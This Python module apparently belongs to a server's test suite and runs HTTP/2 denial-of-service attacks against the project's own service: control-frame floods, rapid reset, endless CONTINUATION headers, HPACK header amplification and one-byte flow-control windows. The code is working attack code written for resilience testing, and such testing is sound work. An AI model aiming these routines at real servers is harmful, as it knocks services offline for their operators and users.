"""HTTP/2 as the standard allows it and nobody means it: floods of what costs the sender nothing, and windows
of next to nothing.
"""

from __future__ import annotations

import functools
from typing import Final

from mq_wire.v1.admin_pb2 import StatsRequest
from spark_tests.hostile import http2
from spark_tests.hostile.siege import Attack, Target

#: How many frames are sent at a time.
_BURST: Final = 1000


def flood(target: Target, words: bytes, count: int, *, first: bytes = b"") -> None:
    """Sends the same words again and again on two connections, and never reads an answer."""
    for _ in range(2):
        link = target.link(http2.PREFACE + http2.settings() + first)
        for _ in range(-(-target.times(count) // _BURST)):
            if not http2.sent(link, words * _BURST):
                break


def rapid_reset(target: Target) -> None:
    """Calls that are cancelled at once, as many as numbers of streams allow."""
    question = http2.call_data(StatsRequest().SerializeToString(), 1)[9:]
    for _ in range(2):
        link = target.link(http2.PREFACE + http2.settings())
        for start in range(1, 2 * target.times(10_000), 2 * _BURST):
            words = b"".join(
                http2.call_headers("Stats", stream)
                + http2.frame(http2.DATA, http2.END_STREAM, stream, question)
                + http2.frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                for stream in range(start, start + 2 * _BURST, 2)
            )
            if not http2.sent(link, words):
                break


def headers_without_end(target: Target) -> None:
    """One list of headers that never ends."""
    part = b"".join(http2.field(f"x-{number}", "y" * 100) for number in range(100))
    flood(
        target,
        http2.frame(http2.CONTINUATION, 0, 1, part),
        4000,
        first=http2.frame(http2.HEADERS, 0, 1, http2.field(":method", "POST")),
    )


def headers_by_number(target: Target) -> None:
    """A header of 4,000 bytes in the table of the connection, named a thousand times a call by one
    byte each.
    """
    name, value = b"x-large", b"y" * 4000
    # Lengths of 127 and more go on in further bytes, seven bits each.
    more = len(value) - 127
    large = b"\x40" + bytes([len(name)]) + name + bytes([127, 0x80 | more & 127, more >> 7]) + value
    for _ in range(target.times(10)):
        link = target.link(http2.PREFACE + http2.settings())
        if http2.sent(link, http2.call_headers("Stats", 1, large)):
            http2.sent(
                link,
                b"".join(http2.call_headers("Stats", stream, b"\xbe" * 1000) for stream in range(3, 401, 2)),
            )


def byte_by_byte(target: Target) -> None:
    """Answers that are taken one byte at a time."""
    client = target.client(window=1, reads=False)
    streams = [client.call("Stats", StatsRequest().SerializeToString()) for _ in range(target.times(200))]
    for _ in range(5):
        for stream in streams:
            if stream not in client.ended:
                client.grant(stream, 1)


ATTACKS: Final = (
    Attack(
        "settings", functools.partial(flood, words=http2.settings(window=1000), count=100_000), seconds=0.5
    ),
    Attack(
        "pings",
        functools.partial(flood, words=http2.frame(http2.PING, 0, 0, bytes(8)), count=100_000),
        seconds=0.5,
    ),
    Attack(
        "empty data",
        functools.partial(
            flood, words=http2.frame(http2.DATA, 0, 1), count=100_000, first=http2.call_headers("Stats", 1)
        ),
    ),
    Attack(
        "frames of no known kind",
        functools.partial(flood, words=http2.frame(77, 255, 0, bytes(100)), count=50_000),
        seconds=0.5,
    ),
    Attack(
        "windows of one byte",
        functools.partial(flood, words=http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), count=100_000),
        seconds=0.5,
    ),
    Attack("rapid reset", rapid_reset, seconds=0.5),
    Attack("headers without end", headers_without_end, seconds=0.5),
    Attack("headers by number", headers_by_number, seconds=0.3),
    Attack("answers byte by byte", byte_by_byte, seconds=0.3),
)
